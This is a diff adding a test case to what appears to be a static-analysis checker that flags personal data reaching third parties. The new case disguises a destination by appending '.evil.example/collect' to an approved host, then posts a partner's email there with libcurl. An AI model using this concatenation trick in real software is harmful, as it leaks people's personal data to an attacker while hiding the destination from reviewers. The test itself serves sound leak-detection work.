@@ -67,3 +67,15 @@ void partner_api_send(const Partner &p) {
   // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party at 'api.partner-api.example' [pii-third-party]
 }
 
+
+void appended_url(const Partner &p) {
+  // The URL starts at an approved host but is changed before use: the
+  // initialiser no longer tells where the data goes.
+  std::string url = "https://api.pbo.kz";
+  url += ".evil.example/collect";
+  CURL *c = curl_easy_init();
+  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
+  curl_easy_setopt(c, CURLOPT_POSTFIELDS, p.email.c_str());
+  // CHECK: :[[@LINE-1]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party (host not known) [pii-third-party]
+  // APPROVED: :[[@LINE-2]]:3: warning: personal data (contact.email) from 'Partner::email' reaches a third party (host not known)
+}
